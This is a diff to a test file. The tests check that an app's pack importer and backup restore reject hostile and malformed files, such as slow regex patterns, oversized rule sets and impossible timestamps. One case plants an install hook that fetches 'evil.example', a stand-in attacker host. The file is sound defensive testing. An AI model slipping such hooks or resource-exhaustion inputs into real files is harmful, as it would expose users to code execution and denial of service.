@@ -113,6 +113,14 @@ const PACK_CASES_RAW: [string, () => Uint8Array, FileErrorCode, string][] = [
   ['custom regex that does not compile', () => mutate((p) => { (p.rules.custom[0] as Json).pattern = '([a-z'; }), 'invalid', 'rules.custom[0].pattern'],
   ['an extra top-level field', () => mutate((p) => { p.onInstall = 'fetch("https://evil.example")'; }), 'invalid', ''],
   ['v1 file with an object in its word list (place named as v1 spells it)', () => bytes(JSON.stringify({ ...v1(), profile: { ...v1().profile, bannedWords: ['oknum', { kata: 'x' }] } })), 'invalid', 'profile.bannedWords[1]'],
+  // Issue 21: the second attack review's kinds of hostile packs.
+  ['600 rule settings (at most 500; 60,000 is over the file size limit)', () => mutate((p) => { (p.rules as Json).settings = Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`rule-${i}`, { enabled: false }])); }), 'invalid', 'rules.settings'],
+  ['a quadratic custom pattern (\\p{Extended_Pictographic}+x)', () => mutate((p) => { (p.rules.custom[0] as Json).pattern = '\\p{Extended_Pictographic}+x'; (p.rules.custom[0] as Json).flags = 'u'; }), 'unsafe-regex', 'rules.custom[0].pattern'],
+  ['a quadratic custom pattern (\\d+ juta)', () => mutate((p) => { (p.rules.custom[0] as Json).pattern = '\\d+ juta'; }), 'unsafe-regex', 'rules.custom[0].pattern'],
+  ['a zero-width custom pattern (\\b)', () => mutate((p) => { (p.rules.custom[0] as Json).pattern = '\\b'; }), 'unsafe-regex', 'rules.custom[0].pattern'],
+  ['a lookahead-only custom pattern', () => mutate((p) => { (p.rules.custom[0] as Json).pattern = '(?=gratis)'; }), 'unsafe-regex', 'rules.custom[0].pattern'],
+  ['a lookbehind-only custom pattern', () => mutate((p) => { (p.rules.custom[0] as Json).pattern = '(?<=wa\\.me)'; }), 'unsafe-regex', 'rules.custom[0].pattern'],
+  ['exportedAt at the end of time', () => mutate((p) => { p.exportedAt = 8.64e15 + 1; }), 'invalid', 'exportedAt'],
   ['v1 file with an unsafe regex (place named as v1 spells it)', () => {
     const doc = v1();
     (doc.profile.customRules as Json[])[0] = { id: 'custom.x', pattern: '(\\w+\\s?)*$', flags: '', message: 'x', severity: 'error' };
@@ -201,7 +209,35 @@ const BACKUP_CASES_RAW: [string, (text: string) => string | Uint8Array, FileErro
   ['rows stored out of line', (text) => edit(text, (b) => { const d = b.data.data[0]; if (d) { d.inbound = false; d.rows = d.rows.map((r) => [r.id, r] as never); } }), 'invalid', 'templates[0]'],
   ['a missing colon inside a row (only the full parser notices)', (text) => text.replace('"rows":[{', '"rows":[{"catatan" "x",'), 'not-json', ''],
   ['nested too deep', (text) => edit(text, (b) => { const rows = b.data.data[0]?.rows ?? []; (rows[0] as Json).tags = nest(40); }), 'too-deep', ''],
+  // Issue 21: the second attack review's kinds of hostile backups.
+  ['a roll-up watermark of 9999-12-31', (text) => addRow(text, 'meta', { key: 'rollup', value: { rolledThrough: '9999-12-31', timeZone: 'WIB', at: NOW } }), 'invalid', 'meta[0].value.rolledThrough'],
+  ['a roll-up watermark next year', (text) => addRow(text, 'meta', { key: 'rollup', value: { rolledThrough: `${new Date().getUTCFullYear() + 1}-06-01`, timeZone: 'WIB', at: NOW } }), 'invalid', 'meta[0].value.rolledThrough'],
+  ['a roll-up watermark that is text', (text) => addRow(text, 'meta', { key: 'rollup', value: 'kemarin' }), 'invalid', 'meta[0].value'],
+  ['a 1 MB meta value', (text) => addRow(text, 'meta', { key: 'catatan', value: 'x'.repeat(1024 * 1024) }), 'invalid', 'meta[0].value'],
+  ['a snapshot at 8.64e15', (text) => addRow(text, 'snapshots', { id: 's1', kind: 'post', platform: 'x', account: 'humas', postId: '1', at: 8.64e15, counts: {} }), 'invalid', 'snapshots[0].at'],
+  ['a snapshot posted in the year 9999', (text) => addRow(text, 'snapshots', { id: 's1', kind: 'post', platform: 'x', account: 'humas', postId: '1', at: NOW, postedAt: Date.UTC(9999, 0, 1), counts: {} }), 'invalid', 'snapshots[0].postedAt'],
+  ['a reply event at 8.64e15', (text) => addRow(text, 'replyEvents', { id: 'e1', kind: 'sent', platform: 'x', at: 8.64e15 }), 'invalid', 'replyEvents[0].at'],
+  ['a roll-up row on 2026-02-31', (text) => addRow(text, 'replyRollups', { v: 1, key: 'r|2026-02-31|x', day: '2026-02-31', platform: 'x', firstAt: NOW, lastAt: NOW, events: 1, kinds: { 'template-inserted': 0, checked: 0, sent: 1 }, responseHistogram: {}, checkedSent: 0, compliantSent: 0, gateOverrides: 0, scoreMilliSum: 0, scoreCount: 0, templates: {} }), 'invalid', 'replyRollups[0].day'],
+  ['a profile with a quadratic custom pattern', (text) => edit(text, (b) => {
+    const t = b.data.data.find((d) => d.tableName === 'profiles');
+    ((t?.rows[0] as Json).customRules as Json[])[0] = { id: 'custom.x', pattern: '\\p{Extended_Pictographic}+x', flags: 'u', message: 'x', severity: 'error' };
+  }), 'unsafe-regex', 'profiles[0].customRules[0].pattern'],
+  ['a profile with 60,000 rule settings', (text) => edit(text, (b) => {
+    const t = b.data.data.find((d) => d.tableName === 'profiles');
+    (t?.rows[0] as Json).rules = Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`rule-${i}`, { enabled: true }]));
+  }), 'invalid', 'profiles[0].rules'],
 ];
+
+/** The backup with one more row in a table (the table's entry in the file exists, possibly empty). */
+function addRow(text: string, table: string, row: Json): string {
+  return edit(text, (b) => {
+    const entry = b.data.data.find((d) => d.tableName === table);
+    if (!entry) throw new Error(`no ${table} in the backup`);
+    entry.rows.push(row);
+    const head = b.data.tables.find((t) => t.name === table);
+    if (head) head.rowCount = Number(head.rowCount) + 1;
+  });
+}
 
 const BACKUP_CASES = BACKUP_CASES_RAW.map(([name, make, code, path]) => [name, code, path, make] as const);
 
@@ -222,6 +258,10 @@ describe('hostile and malformed backups, restored with "replace everything"', ()
   beforeEach(async () => {
     db = await seeded();
     before = await dump(db);
+  });
+
+  it(`the hostile sets hold at least 50 files in all (${PACK_CASES.length} packs + ${BACKUP_CASES.length} backups)`, () => {
+    expect(PACK_CASES.length + BACKUP_CASES.length).toBeGreaterThanOrEqual(50);
   });
 
   it('the unmodified backup restores (the cases below fail for their own reason)', async () => {
